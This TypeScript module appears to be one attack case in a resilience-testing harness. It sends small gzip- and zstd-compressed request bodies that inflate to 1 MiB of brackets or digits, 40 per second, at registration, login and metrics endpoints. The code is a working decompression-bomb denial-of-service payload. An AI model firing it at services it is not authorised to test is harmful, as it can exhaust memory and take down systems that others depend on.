/** Small bodies without a token or a key that are large or deep once they are inflated. */
import { gzipSync, zstdCompressSync } from 'node:zlib';
import { repeat, Tally, type Attack } from './attack.ts';
import { ask } from './dial.ts';

const PER_SECOND = 40;

const brackets = gzipSync('['.repeat(520_000), { level: 9 });
const zeros = zstdCompressSync(Buffer.alloc(1024 * 1024 - 1, '['));
const digits = gzipSync('1'.repeat(1024 * 1024 - 1), { level: 9 });

/** The requests, which take turns. */
const REQUESTS = [
  { path: '/devices/register', encoding: 'gzip', body: brackets },
  { path: '/auth/login', encoding: 'gzip', body: brackets },
  { path: '/metrics', encoding: 'zstd', body: zeros },
  { path: '/metrics', encoding: 'gzip', body: digits },
] as const;

export const nestedBodies: Attack = {
  name: 'nested-bodies',
  what: `a stranger sends ${PER_SECOND} small compressed bodies a second that inflate to 1 MiB of brackets or digits`,
  async run(target) {
    const tally = new Tally();
    await repeat(target, PER_SECOND, async (turn) => {
      const request = REQUESTS[turn % REQUESTS.length];
      if (request === undefined) return;
      const { path, encoding, body } = request;
      const head = [
        `POST ${path} HTTP/1.1`,
        'Content-Type: application/json',
        `Content-Encoding: ${encoding}`,
      ];
      const status = await ask(target, head, body).catch(() => 0);
      tally.add(status === 0 ? 'not answered' : `answered ${status}:`);
    });
    return tally.counts();
  },
};
